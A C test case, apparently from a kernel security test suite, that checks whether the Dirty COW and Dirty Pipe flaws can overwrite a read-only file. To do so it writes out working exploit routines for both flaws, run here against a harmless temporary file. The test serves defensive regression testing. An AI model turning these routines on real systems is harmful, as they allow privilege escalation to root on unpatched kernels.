/* SPDX-License-Identifier: Apache-2.0 */
/* A file that may only be read stays as it is, whatever its reader tries: known faults of the page cache. */
#include <pthread.h>
#include <sys/mman.h>

#include "base/clock.h"
#include "guest/kit/case.h"
#include "guest/kit/helper.h"
#include "guest/kit/seccomp.h"

#define VICTIM	    "/var/tmp/.assay-read-only"
#define VICTIM_SIZE 4096
#define NOBODY	    65534
#define RACE_NS	    (300 * NS_PER_MS)

/* ---- the file ---- */

static void fill(char *page, char with)
{
	memset(page, with, VICTIM_SIZE);
}

static void remove_victim(void *arg UNUSED)
{
	(void)unlink(VICTIM);
}

static void make_victim(struct trial *t)
{
	char page[VICTIM_SIZE];
	int fd = open(VICTIM, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC | O_NOFOLLOW, 0644);

	if (fd < 0)
		case_broken(t, "create %s: %m", VICTIM);
	case_defer(t, remove_victim, NULL);
	fill(page, 'r');
	if (write(fd, page, VICTIM_SIZE) != VICTIM_SIZE || fchmod(fd, 0444) < 0 || fsync(fd) < 0)
		case_broken(t, "fill %s: %m", VICTIM);
	close(fd);
}

/* How many bytes are not what they were. */
static unsigned changed_bytes(struct trial *t)
{
	char page[VICTIM_SIZE];
	int fd = open(VICTIM, O_RDONLY | O_CLOEXEC);
	unsigned changed = 0;

	REQUIRE_EQ(t, pread(fd, page, sizeof page, 0), (ssize_t)sizeof page);
	close(fd);
	for (size_t i = 0; i < sizeof page; i++)
		changed += page[i] != 'r';
	return changed;
}

/* ---- what a reader tries ---- */

enum { TRIED, CANNOT_TRY };

/* Gives up root, so that a right to write does not come with it. */
static int open_as_nobody(void)
{
	if (setgid(NOBODY) < 0 || setuid(NOBODY) < 0)
		return -1;
	return open(VICTIM, O_RDONLY | O_CLOEXEC);
}

/* A pipe's buffer that is still marked as one to be added to takes a page of the file in. (CVE-2022-0847) */
static int write_into_spliced_page(void *arg UNUSED)
{
	int fd = open_as_nobody(), ends[2];
	char piece[4096] = {0};
	loff_t at = 0;

	if (fd < 0 || pipe2(ends, O_NONBLOCK) < 0)
		return CANNOT_TRY;
	size_t filled = 0;
	for (ssize_t n; (n = write(ends[1], piece, sizeof piece)) > 0;)
		filled += (size_t)n;
	for (ssize_t n; filled > 0 && (n = read(ends[0], piece, sizeof piece)) > 0;)
		filled -= (size_t)n;
	if (splice(fd, &at, ends[1], NULL, 1, 0) != 1)
		return CANNOT_TRY;
	return write(ends[1], "WWWW", 4) == 4 ? TRIED : CANNOT_TRY;
}

struct race {
	char *page;
	uint64_t until_ns;
};

static void *throw_copy_away(void *arg)
{
	const struct race *race = arg;

	while (clock_now_ns() < race->until_ns)
		(void)madvise(race->page, VICTIM_SIZE, MADV_DONTNEED);
	return NULL;
}

/* A private copy is thrown away between the moment when it is made and the one when it is written to. (CVE-2016-5195) */
static int race_for_the_copy(void *arg UNUSED)
{
	int memory = open("/proc/self/mem", O_RDWR | O_CLOEXEC), fd = open_as_nobody();
	struct race race = {
		.page = mmap(NULL, VICTIM_SIZE, PROT_READ, MAP_PRIVATE, fd, 0),
		.until_ns = clock_now_ns() + RACE_NS,
	};
	pthread_t thread;

	if (fd < 0 || memory < 0 || race.page == MAP_FAILED ||
	    pthread_create(&thread, NULL, throw_copy_away, &race) != 0)
		return CANNOT_TRY;
	while (clock_now_ns() < race.until_ns)
		(void)!pwrite(memory, "WWWW", 4, (off_t)(uintptr_t)race.page);
	(void)pthread_join(thread, NULL);
	return TRIED;
}

static const struct attempt {
	const char *name;
	helper_fn *try;
} attempts[] = {
	{"private-copy", race_for_the_copy},
	{"spliced-page", write_into_spliced_page},
};

CASE_EACH(security, read_only_file_cannot_be_overwritten, attempts,
	  .title = "Known pipe and copy-on-write races cannot change a read-only file",
	  .priority = P1, .isolation = ISOLATION_FORK,
	  .why = "Any user becomes root by writing into a set-id program or the password file.",
	  .remedy = "Update the kernel.", .fixes = "CVE-2016-5195, CVE-2022-0847", .sources = "own")
{
	make_victim(t);
	int status = helper_run(t, c->try, NULL);
	CHECK_EQ(t, changed_bytes(t), 0U);
	if (!WIFEXITED(status) || WEXITSTATUS(status) != TRIED)
		note(t, "%s: the attempt itself was refused (status %d)", c->name, status);
	remove_victim(NULL);
}

/* When the attempt gives up its rights, the file is there. */
static long change_victim(const struct seccomp_data *call UNUSED, void *arg UNUSED)
{
	int fd = open(VICTIM, O_WRONLY | O_CLOEXEC);

	(void)!pwrite(fd, "WWWW", 4, 64);
	close(fd);
	return SYSCALL_GO_ON;
}

SABOTAGE(security, read_only_file_cannot_be_overwritten, "four bytes of the file are changed")
{
	sabotage_syscall_by(t, SYS_setuid, change_victim, NULL);
}
